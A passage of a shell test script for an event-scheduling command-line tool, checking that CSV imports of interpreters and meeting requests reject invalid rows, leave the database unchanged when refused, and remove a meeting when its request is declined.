expect "an interpreter for an unknown session names its line" 3 'interp_bad2\.csv:2: session "no-such-session" does not exist' -- \
    "$DFNC" --db demo.db import interpreters interp_bad2.csv
printf 'id,event,name,pair,session\nint/x,dfnc2-eu-2027,D,uk-en,\n' > interp_bad3.csv
expect "an interpreter id that is no API path segment names its line" 3 'interp_bad3\.csv:2: id "int/x" must be letters' -- \
    "$DFNC" --db demo.db import interpreters interp_bad3.csv
check "refused interpreter files leave the database unchanged" [ "$(interpreters)" = "$before" ]

# ---- an existing request keeps its event and people; a status change takes its meeting ----
sql() { python3 -c 'import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); r=c.execute(sys.argv[2]).fetchall(); c.commit(); print(r[0][0] if r else "")' demo.db "$1"; }
# two of the demo's accepted requests with meetings, and their people (read, not assumed: the demo's draws decide them)
pick() { sql "SELECT r.id || ' ' || f.id || ' ' || t.id FROM requests r JOIN meetings m ON m.request_rid = r.rid JOIN people f ON f.rid = r.from_rid JOIN people t ON t.rid = r.to_rid WHERE r.status = 'accepted' AND m.location_rid IS NOT NULL ORDER BY r.id LIMIT 1 OFFSET $1"; }
read -r R1 R1F R1T <<< "$(pick 0)"
read -r R2 R2F R2T <<< "$(pick 1)"
sql "UPDATE meetings SET locked = 1 WHERE request_rid = (SELECT rid FROM requests WHERE id = '$R1')" >/dev/null
meetings_before=$(sql "SELECT count(*) FROM meetings")
printf 'id,event,from,to,status\n%s,other-forum,%s,%s,accepted\n%s,dfnc2-eu-2027,%s,%s,accepted\n' "$R1" "$R1F" "$R1T" "$R2" "$R2T" "$R2F" > req_move.csv
expect "a request moved to another event is refused, naming what it belongs to" 3 \
    "req_move\\.csv:2: request \"$R1\" belongs to event \"dfnc2-eu-2027\", from \"$R1F\" to \"$R1T\": an import may change its status, priority and message, not move its event to \"other-forum\"" -- \
    "$DFNC" --db demo.db import requests req_move.csv
check "... and one given other people too, on its own line" grep -q "req_move\\.csv:3: request \"$R2\" belongs to event \"dfnc2-eu-2027\", from \"$R2F\" to \"$R2T\": .*not move its from to \"$R2T\", to to \"$R2F\"" err.txt
check "refused moves keep every meeting and the request's event" \
    [ "$(sql "SELECT count(*) FROM meetings")/$(sql "SELECT e.id FROM requests r JOIN events e ON e.rid = r.event_rid WHERE r.id = '$R1'")" = "$meetings_before/dfnc2-eu-2027" ]
printf 'id,event,from,to,status\n%s,dfnc2-eu-2027,%s,%s,declined\n' "$R1" "$R1F" "$R1T" > req_decline.csv
expect "declining a request by import removes its meeting and says so" 0 \
    'req_decline\.csv: 1 meeting removed: its request is no longer accepted' -- "$DFNC" --db demo.db import requests req_decline.csv
check "... and names the published one to tell its people about, on stderr" \
    grep -q "^warning: req_decline\\.csv:2: request \"$R1\" ($R1F to $R1T) is now declined: its published meeting, 2027-02-1[67]T[0-9:]\\{5\\} at .*, is removed from their agendas and calendar feeds; tell them\$" err.txt
check "the meeting is gone at once, not at the next schedule run" [ "$(sql "SELECT count(*) FROM meetings")" = "$((meetings_before - 1))" ]

tap_end
